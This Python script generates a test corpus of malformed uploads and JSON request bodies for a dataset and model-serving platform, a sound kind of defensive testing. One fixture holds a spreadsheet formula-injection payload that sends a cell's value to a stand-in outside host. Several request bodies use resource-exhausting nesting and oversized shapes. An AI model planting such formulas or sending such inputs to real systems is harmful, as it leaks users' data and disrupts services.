#!/usr/bin/env python3
"""Writes the hostile-file corpus in tests/corpus (uploads/ and requests/), deterministically: rerun it after changing a
file here, and commit what it writes. README.md says what each file is and how the platform must handle it."""
import json
import os
import random
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20261128)


def write(folder, name, data):
    os.makedirs(os.path.join(HERE, folder), exist_ok=True)
    with open(os.path.join(HERE, folder, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


IRIS = "sepal_length,sepal_width,petal_length,petal_width,species\n5.1,3.5,1.4,0.2,setosa\n7.0,3.2,4.7,1.4,versicolor\n6.3,3.3,6.0,2.5,virginica\n"


def png():
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    pixels = zlib.compress(bytes(rng.randrange(256) for _ in range(4 * 16 * 16 + 16)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 6, 0, 0, 0)) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


# Uploads: files a user (or an attacker) might send to POST /datasets/{name}/versions.
uploads = {
    "png-then-binary.csv": png() + bytes(rng.randrange(256) for _ in range(2048)),
    "gzip-of-a-csv.csv": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(IRIS.encode())[2:-4] + b"\x00" * 8,
    "zip-archive.csv": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(rng.randrange(256) for _ in range(512)),
    "tab-separated.tsv": IRIS.replace(",", "\t"),
    "semicolon-separated.csv": IRIS.replace(",", ";"),
    "pipe-separated.csv": IRIS.replace(",", "|"),
    "semicolon-with-decimal-commas.csv": "a;b;label\n1,5;2,25;x\n3,0;4,5;y\n",
    "utf8-bom.csv": b"\xef\xbb\xbf" + IRIS.encode(),
    "utf16le-bom.csv": b"\xff\xfe" + IRIS.encode("utf-16-le"),
    "utf16be-bom.csv": b"\xfe\xff" + IRIS.encode("utf-16-be"),
    "utf16le-without-bom.csv": IRIS.encode("utf-16-le"),
    "latin1-accents.csv": "city,population\nMünchen,1512491\nZürich,421878\n".encode("latin-1"),
    "nul-in-a-cell.csv": b"a,b,label\n1,2,x\n3,4\x00,y\n",
    "quoted-newlines-and-quotes.csv": 'id,review,label\n1,"great\nproduct, ""really""",pos\n2,"bad\r\nservice",neg\n',
    "crlf-line-endings.csv": IRIS.replace("\n", "\r\n"),
    "no-final-newline.csv": IRIS.rstrip("\n"),
    "emoji-and-right-to-left.csv": "name,note,label\nأحمد,👍 good,x\n李雷,🚀 fast,y\n",
    "formula-cells.csv": 'name,note,label\n"=HYPERLINK(""http://x.example/?q=""&A1)",+1+1,x\n@SUM(A1:A2),-2+3,y\n',
    "unclosed-quote.csv": 'a,b,label\n1,"2,x\n3,4,y\n',
    "ragged-rows.csv": "a,b,label\n1,2,x\n3,4\n",
    "extra-field.csv": "a,b,label\n1,2,x,extra\n",
    "duplicate-header.csv": "a,a,label\n1,2,x\n",
    "empty-header-name.csv": "a,,label\n1,2,x\n",
    "header-only.csv": "a,b,label\n",
    "empty.csv": "",
    "bom-only.csv": b"\xef\xbb\xbf",
    "blank-lines-only.csv": "\n\n\n",
    "colon-separated.csv": "a:b:label\n1:2:x\n3:4:y\n",
    "long-header-name.csv": "x" * 300 + ",label\n1,a\n",
    "too-many-columns.csv": ",".join(f"c{i}" for i in range(1001)) + "\n" + ",".join("1" for _ in range(1001)) + "\n",
    "html-error-page.csv": "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body><h1>Bad Gateway</h1></body></html>\n",
    "json-instead-of-csv.csv": '[{"a": 1, "b": 2}, {"a": 3, "b": 4}]\n',
    "control-characters.csv": "a,b,label\n1,\x07\x1b[31mred\x1b[0m,x\n2,\x08,y\n",
}
for name, data in uploads.items():
    write("uploads", name, data)

# Requests: bodies sent to /models/{iris}/predict and /v2/models/{iris}/infer.
record = {"sepal_length": 5.1, "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}
oip = {"inputs": [{"name": k, "shape": [1], "datatype": "FP32", "data": [v]} for k, v in record.items()]}
requests = {
    "valid-predict.json": json.dumps({"records": [record]}),
    "valid-infer.json": json.dumps(oip),
    "deeply-nested-arrays.json": "[" * 20_000 + "]" * 20_000,
    "deeply-nested-objects.json": '{"records":' + '{"a":' * 5000 + "1" + "}" * 5000 + "}",
    "truncated.json": json.dumps({"records": [record]})[:-7],
    "top-level-string.json": '"records"',
    "top-level-array.json": json.dumps([record]),
    "records-is-an-object.json": json.dumps({"records": record}),
    "duplicate-keys.json": '{"records": [{"sepal_length": 5.1, "sepal_length": "x", "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}]}',
    "huge-number.json": json.dumps({"records": [dict(record, sepal_length=0)]}).replace("0,", "1" + "0" * 400 + ",", 1),
    "nan-and-infinity.json": '{"records": [{"sepal_length": NaN, "sepal_width": Infinity, "petal_length": 1.4, "petal_width": 0.2}]}',
    "lone-surrogate.json": '{"records": [{"sepal_length": "\\ud800", "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}]}',
    "nul-in-a-string.json": '{"records": [{"sepal_length": "5\\u0000", "sepal_width": 3.5, "petal_length": 1.4, "petal_width": 0.2}]}',
    "utf8-bom.json": b"\xef\xbb\xbf" + json.dumps({"records": [record]}).encode(),
    "utf16le.json": json.dumps({"records": [record]}).encode("utf-16-le"),
    "latin1-bytes.json": '{"records": [{"sepal_length": "caf\xe9"}]}'.encode("latin-1"),
    "binary.json": bytes(rng.randrange(256) for _ in range(4096)),
    "oip-shape-mismatch.json": json.dumps({"inputs": [dict(t, shape=[3]) for t in oip["inputs"]]}),
    "oip-negative-shape.json": json.dumps({"inputs": [dict(t, shape=[-1]) for t in oip["inputs"]]}),
    "oip-huge-shape.json": json.dumps({"inputs": [dict(t, shape=[2**40, 2**40]) for t in oip["inputs"]]}),
    "oip-unknown-datatype.json": json.dumps({"inputs": [dict(t, datatype="FP128") for t in oip["inputs"]]}),
    "oip-strings-for-numbers.json": json.dumps({"inputs": [dict(t, data=["five"]) for t in oip["inputs"]]}),
    "oip-inputs-missing.json": json.dumps({"id": "x"}),
    "oip-lone-surrogate.json": json.dumps({"inputs": oip["inputs"], "parameters": {"routing_key": "x"}}).replace('"x"', '"\\udfff"'),
    "empty.json": "",
}
for name, data in requests.items():
    write("requests", name, data)
